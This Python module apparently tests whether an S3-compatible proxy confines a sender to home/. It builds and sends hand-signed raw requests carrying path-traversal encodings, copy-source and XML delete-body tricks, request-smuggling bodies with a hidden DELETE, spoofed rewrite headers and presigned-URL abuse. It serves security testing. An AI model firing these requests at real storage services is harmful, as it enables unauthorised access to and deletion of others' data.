"""Requests by which a store could be made to touch another object than the one that a judge saw. The sender may do
everything below home/ in the bucket, and nothing else."""

import base64
import hashlib
import hmac
import re
import socket
import ssl
import time
from dataclasses import dataclass, field
from urllib.parse import quote, unquote

EMPTY = hashlib.sha256(b"").hexdigest()


@dataclass
class Attack:
    """One request. `path` follows the bucket; `{bucket}`, `{upload}` (of an upload to elsewhere/up) and `{own}` (of one
    to home/up) are filled in. `loose` headers are added without being signed."""

    group: int
    method: str
    path: str
    headers: dict = field(default_factory=dict)
    loose: tuple = ()
    body: bytes = b""
    payload: str | None = None
    # What a proxy must be able to do so that the request, which is none that does harm, is let through: "anything",
    # "presigned" URLs or "lists" of objects to delete. Empty for what may be refused.
    harmless: str = ""
    # The path in the request line, if it is another than the one that is signed.
    line: str | None = None
    # Instead of Content-Length.
    length: str | None = None
    presign: bool = False


def delete(body, **more):
    body = body if isinstance(body, bytes) else body.encode()
    md5 = base64.b64encode(hashlib.md5(body).digest()).decode()
    return Attack(3, "POST", "?delete=", {"content-md5": md5}, body=body, **more)


def listed(*keys, before="", after=""):
    return f"<Delete>{before}" + "".join(f"<Object><Key>{key}</Key></Object>" for key in keys) + f"{after}</Delete>"


def copy(source, **more):
    return Attack(2, "PUT", "/home/copied", {"x-amz-copy-source": source, **more})


PATHS = ["home//../elsewhere/x", "home/../elsewhere/x", "home/%2e%2e/elsewhere/x", "home/%2E%2E%2Felsewhere/x", "home/..%2felsewhere/x", "home//x", "home/./x", "home/x/",
         "home/x//", "home/%2e/x", "home\\..\\elsewhere\\x", "home/%5c..%5celsewhere/x", "home/%5C..%5Celsewhere%5Cx", "home/%c0%ae%c0%ae/elsewhere/x", "home/x%00", "home/x%00.txt",
         "home/x%0d%0aX:%20y", "home/x;a=b", "home/x%3Ba=b", "home/x%23y", "home/x%3Fy", "home/x#y", "Home/x", "home/x%20", "home/%20x", "home/%2e%2e%2e/x", "home/x%2Fy",
         "home/%252e%252e/elsewhere/x", "home/x%252Fy", "home/.uploads/x", ".uploads/x", "home/x.versions/v_1", "home/x+y", "home/x%2By", "home/%EF%BC%8F..%EF%BC%8Felsewhere/x",
         "/home/x", "//home/x", "home/x?partNumber=1", "home/x?response-content-type=a", "../other/home/x", "home"]
SOURCES = ["/{bucket}/elsewhere/x", "{bucket}/elsewhere/x", "/{bucket}/home/x", "{bucket}/home/x", "//{bucket}/elsewhere/x", "/{bucket}//elsewhere/x", "/{bucket}/home/../elsewhere/x",
           "/{bucket}/home/%2e%2e/elsewhere/x", "/{bucket}/home//../elsewhere/x", "{bucket}%2Felsewhere%2Fx", "{bucket}%2Fhome%2Fx", "/{bucket}/home/x?versionId=null", "/{bucket}/home/x%3FversionId=1",
           "/{bucket}/home/x?versionId=1&x=/elsewhere/x", "/{bucket}/home/x,/{bucket}/elsewhere/x", "arn:aws:s3:::{bucket}/home/x", "arn:aws:s3:us-east-1:1:accesspoint/a/object/elsewhere/x",
           "/{bucket}/home/x#/../elsewhere/x", "/{bucket}/home\\..\\elsewhere\\x", "/{bucket}/home/x/../../elsewhere/x", "/{bucket}/home/x%00", "http://127.0.0.1/{bucket}/elsewhere/x", "", "/", "/{bucket}",
           "/{bucket}/", "/../{bucket}/elsewhere/x", "/{bucket}/home/%252e%252e/elsewhere/x"]
QUERIES = ["?acl&tagging", "?uploads&list-type=2", "?versionId=", "?versionId=..%2F..%2Felsewhere%2Fx", "?tagging&acl=", "?tagging&tagging", "?Tagging", "?acl&x-id=GetObject", "?torrent", "?restore", "?select&select-type=2",
           "?attributes", "?x-id=PutObject", "?policy", "?X-Amz-Signature=00", "?x-amz-security-token=x", "?AWSAccessKeyId=x&Signature=y&Expires=1", "?partNumber=1&uploadId={upload}", "?delete", "?retention&legal-hold", "?;acl", "?acl;tagging", "?acl=%2B", "?a+b"]
LISTS = ["", "?list-type=2", "?prefix=", "?prefix", "?list-type=2&prefix=elsewhere/", "?list-type=2&prefix=/elsewhere/", "?list-type=2&prefix=home/../elsewhere/", "?list-type=2&prefix=home//../elsewhere/",
         "?list-type=2&prefix=home/%2e%2e/elsewhere/", "?list-type=2&delimiter=/", "?list-type=2&prefix=home/&delimiter=/", "?list-type=2&prefix=home/&start-after=elsewhere/", "?prefix=home/&marker=/elsewhere/x",
         "?list-type=2&prefix=home/&continuation-token=../elsewhere/x", "?list-type=2&prefix=home/&max-keys=1", "?list-type=2&prefix=home/&prefix=elsewhere/", "?list-type=2&prefix=home/&Prefix=elsewhere/",
         "?list-type=2&prefix=home%2F", "?list-type=2&prefix=home/%00", "?versions&prefix=home/../elsewhere/", "?uploads&prefix=home/", "?list-type=2&prefix=home%5C..%5Celsewhere%5C", "?list-type=2&prefix=home"]

HEADERS = [("x-amz-copy-source", "/{bucket}/elsewhere/x"), ("x_amz_copy_source", "/{bucket}/elsewhere/x"), ("x-amz-acl", "public-read"), ("X-Amz-Tagging", "a=b"), ("x-amz-bypass-governance-retention", "true"),
           ("x-amz-security-token", "x"), ("x-http-method-override", "DELETE"), ("x-http-method", "DELETE"), ("x-original-uri", "/{bucket}/elsewhere/x"), ("x-original-url", "/{bucket}/elsewhere/x"), ("x-rewrite-url", "/{bucket}/elsewhere/x"),
           ("x-original-method", "DELETE"), ("x-forwarded-uri", "/{bucket}/elsewhere/x"), ("x-forwarded-method", "DELETE"), ("x-forwarded-host", "elsewhere"), ("x-forwarded-prefix", "/{bucket}/home"), ("x-forwarded-port", "1"),
           ("forwarded", "host=elsewhere"), ("x-minio-source-mtime", "1"), ("x-rgw-object-type", "x"), ("x-seaweedfs-x", "1"), ("seaweed-x", "1"), ("rgwx-copy-if-newer", "1"), ("connection", "authorization"),
           ("connection", "x-amz-date, x-amz-content-sha256"), ("authorization", "AWS4-HMAC-SHA256 x"), ("host", "elsewhere"), ("content-length", "7"), ("transfer-encoding", "identity"), ("x-brevet-proxy-secret", "x" * 40),
           ("x-envoy-original-path", "/{bucket}/elsewhere/x"), ("x-envoy-auth-partial-body", "true"), ("range", "bytes=0-1,3-4"), ("x-amz-meta-a", "b"), ("expect", "100-continue"), ("if-none-match", "*")]


def attacks():
    for path in PATHS:
        for method, body in (("GET", b""), ("PUT", b"written"), ("DELETE", b""), ("HEAD", b"")):
            yield Attack(1, method, f"/{path}", body=body)
    # The sender's own objects: whoever refuses these refuses everything.
    for method, body in (("GET", b""), ("HEAD", b""), ("PUT", b"written"), ("DELETE", b"")):
        yield Attack(1, method, "/home/x", body=body, harmless="anything")
    yield Attack(2, "PUT", "/home/copied", {"x-amz-copy-source": "/{bucket}/home/x"}, harmless="anything")
    for source in SOURCES:
        yield copy(source)
        yield Attack(2, "PUT", "/home/up?partNumber=1&uploadId={own}", {"x-amz-copy-source": source})
    yield copy("/{bucket}/home/x", **{"x-amz-source-expected-bucket-owner": "1"})
    yield Attack(2, "PUT", "/home/copied", {"x-amz-copy-source": "/{bucket}/home/x"}, loose=(("x-amz-copy-source", "/{bucket}/elsewhere/x"),))
    ours = listed("home/d1", "home/d2")
    yield delete(ours, harmless="lists")
    yield delete(listed("home/d1", "home/d2", before="<Quiet>true</Quiet>"), harmless="lists")
    yield delete('<?xml version="1.0" encoding="UTF-8"?>\n' + ours.replace("<Delete>", '<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'), harmless="lists")
    for body in (listed("home/d1", "elsewhere/x"), listed("elsewhere/x"), listed("home/../elsewhere/x"), listed("home//d1"), "<Delete><Object><Key>home/d1</Key><Key>elsewhere/x</Key></Object></Delete>",
                 "<Delete><Object><Key>home/d1<!-- -->/../elsewhere/x</Key></Object></Delete>", "<Delete><Object><Key><![CDATA[elsewhere/x]]></Key></Object></Delete>",
                 '<!DOCTYPE Delete [<!ENTITY e "elsewhere/x">]><Delete><Object><Key>&e;</Key></Object></Delete>', "<Delete><Object><Key>home/d1</Key><VersionId>../../elsewhere</VersionId></Object></Delete>",
                 "<Delete><Object><Key>&#101;lsewhere/x</Key></Object></Delete>", "<Delete><Object><Key> elsewhere/x</Key></Object></Delete>", "<Delete><Object><Key>home/d1\u0000</Key></Object></Delete>",
                 "<x:Delete xmlns:x='u'><x:Object><x:Key>elsewhere/x</x:Key></x:Object></x:Delete>", "<Delete><object><key>elsewhere/x</key></object></Delete>", listed(*[f"home/n{n}" for n in range(1_001)]), "", "<Delete/>",
                 listed("home/d1") + listed("elsewhere/x"), '<Delete><Object Key="elsewhere/x"><Key>home/d1</Key></Object></Delete>'):
        yield delete(body)
    yield delete("\ufeff" + listed("elsewhere/x"))
    yield delete(listed("elsewhere/x").encode("utf-16"))
    yield delete(listed("home/d3"), payload="UNSIGNED-PAYLOAD")
    yield delete(listed("elsewhere/x"), payload=hashlib.sha256(listed("home/d1").encode()).hexdigest())
    for query in QUERIES:
        for method in ("GET", "PUT", "DELETE"):
            yield Attack(4, method, f"/home/x{query}")
    yield Attack(4, "GET", "/home/x", presign=True, loose=(("authorization", "AWS4-HMAC-SHA256 Credential=a/20200101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0"),))
    yield Attack(4, "GET", "/elsewhere/x", presign=True)
    yield Attack(4, "GET", "/home/x", presign=True, harmless="presigned")
    yield Attack(4, "PUT", "/home/x", presign=True, body=b"by url", harmless="presigned")
    yield Attack(5, "GET", "?list-type=2&prefix=home/", harmless="anything")
    for query in LISTS:
        yield Attack(5, "GET", query)
    for key in ("home/up", "elsewhere/up"):
        for upload in ("{upload}", "{own}", "{upload}/..", "../elsewhere", ""):
            yield Attack(6, "PUT", f"/{key}?partNumber=1&uploadId={upload}", body=b"part")
            yield Attack(6, "GET", f"/{key}?uploadId={upload}")
            yield Attack(6, "POST", f"/{key}?uploadId={upload}", body=b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>x</ETag></Part></CompleteMultipartUpload>")
            if upload != "{own}":
                yield Attack(6, "DELETE", f"/{key}?uploadId={upload}")
    form = b'--b\r\nContent-Disposition: form-data; name="key"\r\n\r\nelsewhere/${filename}\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\nx\r\n--b--\r\n'
    yield Attack(7, "POST", "", {"content-type": "multipart/form-data; boundary=b"}, body=form)
    yield Attack(7, "POST", "/home/x", {"content-type": "multipart/form-data; boundary=b"}, body=form)
    chunks = b"7\r\nwritten\r\n0\r\n"
    trailer = {"x-amz-trailer": "x-amz-checksum-crc32", "content-encoding": "aws-chunked", "x-amz-decoded-content-length": "7"}
    for tail in (b"x-amz-checksum-crc32:AAAAAA==\r\n\r\n", b"\r\n", b"x-amz-checksum-crc32:AAAAAA==\r\nx-amz-copy-source:/{bucket}/elsewhere/x\r\n\r\n"):
        yield Attack(8, "PUT", "/home/chunked", trailer, body=chunks + tail, payload="STREAMING-UNSIGNED-PAYLOAD-TRAILER")
    yield Attack(8, "PUT", "/home/chunked", {**trailer, "x-amz-decoded-content-length": "9"}, body=chunks + b"\r\n", payload="STREAMING-UNSIGNED-PAYLOAD-TRAILER")
    yield Attack(8, "PUT", "/home/chunked", body=chunks, payload="STREAMING-AWS4-HMAC-SHA256-PAYLOAD")
    yield Attack(8, "PUT", "/home/other", body=b"other bytes", payload=hashlib.sha256(b"these").hexdigest())
    smuggled = b"0\r\n\r\nDELETE /{bucket}/elsewhere/x HTTP/1.1\r\nHost: x\r\n\r\n"
    yield Attack(8, "PUT", "/home/x", loose=(("transfer-encoding", "chunked"),), body=smuggled, payload="UNSIGNED-PAYLOAD")
    yield Attack(8, "PUT", "/home/x", loose=(("transfer-encoding", "\tchunked"),), body=smuggled, payload="UNSIGNED-PAYLOAD")
    yield Attack(8, "PUT", "/home/x", body=smuggled, payload="UNSIGNED-PAYLOAD", length="5")
    # A body that never ends.
    yield Attack(8, "PUT", "/home/stalled", body=b"written", payload="UNSIGNED-PAYLOAD", length="20")
    yield Attack(9, "GET", "/home/x", line="http://elsewhere/{bucket}/elsewhere/x")
    yield Attack(9, "GET", "/home/x", line="https://127.0.0.1/{bucket}/elsewhere/x")
    yield Attack(9, "GET", "/home/x", line="/{bucket}/elsewhere/x")
    yield Attack(9, "GET", "/home/x", line="*")
    for name, value in HEADERS:
        for method, body in (("GET", b""), ("PUT", b"written")):
            yield Attack(10, method, "/home/x", loose=((name, value),), body=body)
    yield Attack(11, "OPTIONS", "/elsewhere/x", loose=(("origin", "https://evil.example"), ("access-control-request-method", "GET")))
    yield Attack(11, "OPTIONS", "/elsewhere/x")


def filled(attack, **values):
    """The attack with the bucket and the ids of uploads."""
    fill = lambda text: re.sub(r"\{(bucket|upload|own)\}", lambda m: values[m[1]], text)
    attack.path, attack.line = fill(attack.path), attack.line and fill(attack.line)
    attack.headers = {name: fill(value) for name, value in attack.headers.items()}
    attack.loose = tuple((name, fill(value)) for name, value in attack.loose)
    attack.body = attack.body.replace(b"{bucket}", values["bucket"].encode())
    return attack


def signed(method, target, host, headers, payload, key, token, region, presign):
    """The target and the headers of a request whose canonical form is that of what the path says, decoded once."""
    path, _, query = target.partition("?")
    canonical_path = quote(unquote(path, errors="surrogateescape").encode(errors="surrogateescape"), safe="/~-._")
    now = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    scope = f"{now[:8]}/{region}/s3/aws4_request"
    own = {"host": host} if presign else {"host": host, "x-amz-content-sha256": payload, "x-amz-date": now, "x-amz-security-token": token, **headers}
    names = ";".join(sorted(own))
    if presign:
        more = {"X-Amz-Algorithm": "AWS4-HMAC-SHA256", "X-Amz-Credential": f"{key[0]}/{scope}", "X-Amz-Date": now, "X-Amz-Expires": "60", "X-Amz-Security-Token": token, "X-Amz-SignedHeaders": names}
        query = "&".join(filter(None, [query, *(f"{n}={quote(v, safe='~-._')}" for n, v in more.items())]))
        payload = "UNSIGNED-PAYLOAD"
    pairs = [pair.partition("=") for pair in query.split("&") if pair]
    encoded = sorted((quote(unquote(n), safe="~-._"), quote(unquote(v, errors="surrogateescape").encode(errors="surrogateescape"), safe="~-._")) for n, _, v in pairs)
    canonical = "\n".join([method, canonical_path, "&".join(f"{n}={v}" for n, v in encoded), *(f"{n}:{own[n].strip()}" for n in sorted(own)), "", names, payload])
    text = "\n".join(["AWS4-HMAC-SHA256", now, scope, hashlib.sha256(canonical.encode(errors="surrogateescape")).hexdigest()])
    secret = f"AWS4{key[1]}".encode()
    for part in (now[:8], region, "s3", "aws4_request", text):
        secret = hmac.new(secret, part.encode(), hashlib.sha256).digest()
    if presign:
        return f"{path}?{query}&X-Amz-Signature={secret.hex()}", {}
    authorization = f"AWS4-HMAC-SHA256 Credential={key[0]}/{scope}, SignedHeaders={names}, Signature={secret.hex()}"
    return target, {**{n: v for n, v in own.items() if n != "host"}, "authorization": authorization}


def send(attack, bucket, endpoint, key, token, region, ca):
    """Sends the bytes of the request, which no library cleans. Returns the status (0 if there is none) and the body."""
    host, port = endpoint.removeprefix("https://").split(":")
    payload = attack.payload or hashlib.sha256(attack.body).hexdigest()
    target, headers = signed(attack.method, f"/{bucket}{attack.path}", f"{host}:{port}", attack.headers, payload, key, token, region, attack.presign)
    length = attack.length or str(len(attack.body))
    lines = [f"{attack.method} {attack.line or target} HTTP/1.1", f"Host: {host}:{port}", *(f"{n}: {v}" for n, v in headers.items()), *(f"{n}: {v}" for n, v in attack.loose),
             *([] if any(n in ("transfer-encoding", "content-length") for n, _ in attack.loose) and attack.method != "GET" else [f"Content-Length: {length}"]), "Connection: close", "", ""]
    context = ssl.create_default_context(cafile=ca)
    got = b""
    try:
        with socket.create_connection((host, int(port)), 3) as plain, context.wrap_socket(plain, server_hostname=host) as stream:
            stream.sendall("\r\n".join(lines).encode(errors="surrogateescape") + attack.body)
            while chunk := stream.recv(65_536):
                got += chunk
    except OSError:  # the proxy closed the connection
        pass
    head, _, body = got.partition(b"\r\n\r\n")
    status = head.split(b" ", 2)[1:2]
    return (int(status[0]) if status and status[0].isdigit() else 0), body
